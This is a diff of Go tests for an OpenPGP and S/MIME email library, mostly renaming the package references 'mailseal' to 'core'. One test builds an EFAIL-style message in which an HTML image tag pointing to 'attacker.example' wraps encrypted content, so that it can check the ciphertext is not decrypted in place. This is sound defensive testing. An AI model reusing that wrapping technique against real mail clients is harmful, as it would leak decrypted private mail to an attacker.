@@ -15,7 +15,7 @@ import (
 	"github.com/ProtonMail/go-crypto/openpgp/packet"
 	openpgp "github.com/ProtonMail/go-crypto/openpgp/v2"
 
-	"github.com/mailseal/mailseal"
+	"github.com/mailseal/mailseal/core"
 	"github.com/mailseal/mailseal/mime"
 	"github.com/mailseal/mailseal/pgp"
 	"github.com/mailseal/mailseal/smime"
@@ -37,7 +37,7 @@ type fixture struct {
 
 func newFixture(t testing.TB) *fixture {
 	f := &fixture{alice: newKey(t, "Alice", "alice@example.org"), bob: newKey(t, "Bob", "bob@example.org")}
-	f.op = &OpenPGP{Engine: pgp.New(mailseal.DefaultPolicy()), Keyring: pgp.Keyring{
+	f.op = &OpenPGP{Engine: pgp.New(core.DefaultPolicy()), Keyring: pgp.Keyring{
 		Certs:   openpgp.EntityList{f.alice, f.bob},
 		Secrets: openpgp.EntityList{f.bob},
 	}}
@@ -76,24 +76,24 @@ func TestSignThenOpen(t *testing.T) {
 		t.Fatal(err)
 	}
 	res := open(t, f, signed.Bytes(), Options{})
-	if res.Report.Status != mailseal.StatusGood || res.Report.Protocol != mailseal.ProtocolOpenPGP {
+	if res.Report.Status != core.StatusGood || res.Report.Protocol != core.ProtocolOpenPGP {
 		t.Fatalf("report %+v", res.Report)
 	}
 	// Decrypting a signed-only message is an error, not a pass-through.
 	_, err := Open(parse(t, signed.Bytes()), []Engine{f.op}, Options{Decrypt: true, Limits: mime.DefaultLimits()})
-	if mailseal.ExitCode(err) != mailseal.ExitVerification {
+	if core.ExitCode(err) != core.ExitVerification {
 		t.Fatalf("decrypt of a signed message: %v", err)
 	}
 	// Nested in multipart/mixed with unsigned text: partial, signed_part 1.
 	nested := "From: Alice <alice@example.org>\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" +
 		signed.String() + "\r\n--b\r\nContent-Type: text/plain\r\n\r\nunsigned\r\n--b--\r\n"
 	res = open(t, f, []byte(nested), Options{})
-	if res.Report.Status != mailseal.StatusPartial || res.Report.SignedPart != "1" || len(res.Report.Unprotected) != 1 {
+	if res.Report.Status != core.StatusPartial || res.Report.SignedPart != "1" || len(res.Report.Unprotected) != 1 {
 		t.Fatalf("nested report %+v", res.Report)
 	}
 	// Named explicitly, the part is judged alone.
 	res = open(t, f, []byte(nested), Options{Part: "1"})
-	if res.Report.Status != mailseal.StatusGood {
+	if res.Report.Status != core.StatusGood {
 		t.Fatalf("--part 1 report %+v", res.Report)
 	}
 }
@@ -115,9 +115,9 @@ func TestEncryptThenOpen(t *testing.T) {
 				t.Fatal("Bcc or plaintext in the encrypted message")
 			}
 			res := open(t, f, enc.Bytes(), Options{Decrypt: true})
-			want := mailseal.StatusUnsigned
+			want := core.StatusUnsigned
 			if sign {
-				want = mailseal.StatusGood
+				want = core.StatusGood
 			}
 			if res.Report.Status != want || !res.Report.Encrypted || res.Report.Integrity == "" {
 				t.Fatalf("report %+v", res.Report)
@@ -145,7 +145,7 @@ func TestEncryptedSignedLayers(t *testing.T) {
 		t.Fatal(err)
 	}
 	res := open(t, f, enc.Bytes(), Options{Decrypt: true})
-	if res.Report.Status != mailseal.StatusGood || len(res.Report.Signers) != 1 {
+	if res.Report.Status != core.StatusGood || len(res.Report.Signers) != 1 {
 		t.Fatalf("report %+v", res.Report)
 	}
 }
@@ -160,7 +160,7 @@ func TestNestedCiphertextIsNotOpened(t *testing.T) {
 		"Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--b\r\n" + enc.String() +
 		"\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n"
 	res := open(t, f, []byte(wrapped), Options{Decrypt: true})
-	if res.Report.Status != mailseal.StatusPartial || res.Inner != nil || res.Report.EncryptedPart != "2" {
+	if res.Report.Status != core.StatusPartial || res.Inner != nil || res.Report.EncryptedPart != "2" {
 		t.Fatalf("report %+v inner %v", res.Report, res.Inner != nil)
 	}
 	res = open(t, f, []byte(wrapped), Options{Decrypt: true, Part: "2"})
@@ -222,7 +222,7 @@ func BenchmarkMessages(b *testing.B) {
 				for i := 0; i < b.N; i++ {
 					m, _ := mime.Parse(bytes.NewReader(c.data), mime.DefaultLimits(), 1<<20)
 					res, err := Open(m, []Engine{f.op}, Options{Decrypt: c.decrypt, Limits: mime.DefaultLimits(), MemLimit: 1 << 20})
-					if err != nil || res.Report.Status != mailseal.StatusGood {
+					if err != nil || res.Report.Status != core.StatusGood {
 						b.Fatalf("%v %+v", err, res)
 					}
 					if res.Inner != nil {
@@ -312,7 +312,7 @@ func TestLargeMessagesThroughThePipelines(t *testing.T) {
 				t.Fatal(err)
 			}
 			defer res.Close()
-			if res.Report.Status != mailseal.StatusGood {
+			if res.Report.Status != core.StatusGood {
 				t.Fatalf("report %+v", res.Report)
 			}
 			if res.Inner == nil {
@@ -401,7 +401,7 @@ func TestOpenOutputBesideCheck(t *testing.T) {
 	called := false
 	o := opts
 	o.Output = func(mime.Header, io.Reader) error { called = true; return nil }
-	if _, err := Open(parse(t, smimeEncrypt(t, sf, broken)), []Engine{smimeFlow}, o); !errors.Is(err, mailseal.ErrInput) || !strings.Contains(err.Error(), "smime: verify") || called {
+	if _, err := Open(parse(t, smimeEncrypt(t, sf, broken)), []Engine{smimeFlow}, o); !errors.Is(err, core.ErrInput) || !strings.Contains(err.Error(), "smime: verify") || called {
 		t.Errorf("unreadable signature: error %v, output written %v", err, called)
 	}
 
@@ -458,15 +458,15 @@ func largeSigned(t *testing.T, sf *smimeFixture) []byte {
 type signedCase struct {
 	name   string
 	signed []byte
-	want   mailseal.Status
+	want   core.Status
 }
 
 // goodAndAltered are a message from largeSigned and a copy altered after
 // signing (the same length), with the status each should get.
 func goodAndAltered(signed []byte) []signedCase {
 	return []signedCase{
-		{"good", signed, mailseal.StatusGood},
-		{"altered", bytes.Replace(signed, []byte("WVphYmNk"), []byte("WVphYmNl"), 1), mailseal.StatusBad},
+		{"good", signed, core.StatusGood},
+		{"altered", bytes.Replace(signed, []byte("WVphYmNk"), []byte("WVphYmNl"), 1), core.StatusBad},
 	}
 }
 
@@ -502,7 +502,7 @@ func TestSignedThenEncryptedByAnother(t *testing.T) {
 			t.Fatal(err)
 		}
 		rep := res.Report
-		if rep.Status != mailseal.StatusGood {
+		if rep.Status != core.StatusGood {
 			t.Fatalf("report %+v", rep)
 		}
 		if strings.Contains(out.String(), "Pay Mallory") || !strings.Contains(out.String(), "Subject: hi\r\n") {
